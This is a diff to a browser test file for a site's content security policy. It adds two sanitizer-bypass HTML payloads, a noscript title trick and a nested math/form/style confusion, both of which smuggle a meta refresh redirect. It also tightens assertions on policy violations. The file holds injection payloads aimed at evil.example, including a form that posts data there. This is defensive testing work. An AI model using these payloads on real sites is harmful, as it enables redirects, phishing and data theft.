@@ -17,9 +17,13 @@ const pieces = {
   object: '<object data="https://evil.example/a.swf"></object>',
   base: '<base href="https://evil.example/">',
   refresh: '<meta http-equiv="refresh" content="0;url=/offers">',
+  'refresh that a browser with scripts alone sees':
+    '<noscript><p title="</noscript><meta http-equiv=refresh content=0;url=/offers>">x</p></noscript>',
   form: '<form action="https://evil.example/take"><input name="word" value="x"><button>Send it</button></form>',
   link: '<a href="javascript:window.ran = \'link\'">Press me</a>',
   end: '</div></main></body></html>',
+  'refresh in a nesting that reads otherwise when it is written out':
+    '<form><math><mtext></form><form><mglyph><style></math><meta http-equiv="refresh" content="0;url=/offers">',
 }
 
 /** What would be left open, and swallow the page after it. */
@@ -60,12 +64,14 @@ afterAll(async () => {
   await api.close()
 })
 
-/** Counts what the policy of the page forbids, from before the first byte, by directive. */
+/** Takes down what the policy of the page forbids, from before the first byte: by which directive, and what. */
 async function watchViolations(page: Page): Promise<() => Promise<string[]>> {
   await page.addInitScript(() => {
     const seen: string[] = []
     Object.assign(window, { seen })
-    document.addEventListener('securitypolicyviolation', (event) => seen.push(event.effectiveDirective))
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
+      seen.push(`${effectiveDirective} ${blockedURI}`),
+    )
   })
   return () => page.evaluate(() => (window as unknown as { seen: string[] }).seen)
 }
@@ -93,24 +99,26 @@ describe('a hostile text', () => {
     page.on('response', (response) => left.push(response.url()))
     const violations = await watchViolations(page)
     await page.goto(`${site.url}/article/hostile-0`, { waitUntil: 'networkidle' })
-    const seen = await violations()
-    const count = (directive: string) => seen.filter((one) => one === directive).length
-    expect({
-      scripts: count('script-src-elem'),
-      handlers: count('script-src-attr'),
-      frames: count('frame-src'),
-      styles: count('style-src-elem'),
-      objects: count('object-src'),
-      bases: count('base-uri'),
-    }).toEqual({ scripts: 1, handlers: 1, frames: 1, styles: 1, objects: 1, bases: 1 })
+    expect((await violations()).sort()).toEqual([
+      'base-uri https://evil.example/',
+      'frame-src https://evil.example',
+      'object-src https://evil.example',
+      'script-src-attr inline',
+      'script-src-elem inline',
+      'style-src-elem https://evil.example/a.css',
+    ])
+    expect(refused).toEqual(['https://evil.example/a.css'])
     await page.getByText('Press me').click()
     expect(await ran(page)).toBeUndefined()
     expect(page.url()).toBe(`${site.url}/article/hostile-0`)
     expect(left.filter((url) => url.includes('evil.example') || url.endsWith('/offers'))).toEqual([])
     await expectWhole(page)
     expect(await page.locator('[itemprop=articleBody]').textContent()).toContain('Last words.')
-    await page.locator('[itemprop=articleBody] form').evaluate((form: HTMLFormElement) => form.requestSubmit())
-    await expect.poll(violations).toContain('form-action')
+    await page
+      .locator('[itemprop=articleBody] form')
+      .first()
+      .evaluate((form: HTMLFormElement) => form.requestSubmit())
+    await expect.poll(violations).toContain('form-action https://evil.example/take?word=x')
     await context.close()
   })
 
@@ -156,7 +164,7 @@ describe('the content security policy', () => {
       document.body.click()
     })
     expect(await ran(page)).toBeUndefined()
-    expect(await violations()).toEqual(['script-src-elem', 'script-src-attr'])
+    expect(await violations()).toEqual(['script-src-elem inline', 'script-src-attr inline'])
     await context.close()
   })
 })
